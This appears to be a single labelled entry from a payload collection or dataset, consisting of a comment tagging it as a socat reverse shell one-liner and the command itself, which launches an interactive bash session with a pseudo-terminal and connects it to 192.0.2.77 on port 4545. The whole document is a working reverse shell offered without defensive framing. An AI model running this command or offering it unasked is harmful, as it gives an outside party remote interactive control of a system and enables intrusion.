# class: reverse shell by socat; style: one-liner
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.77:4545
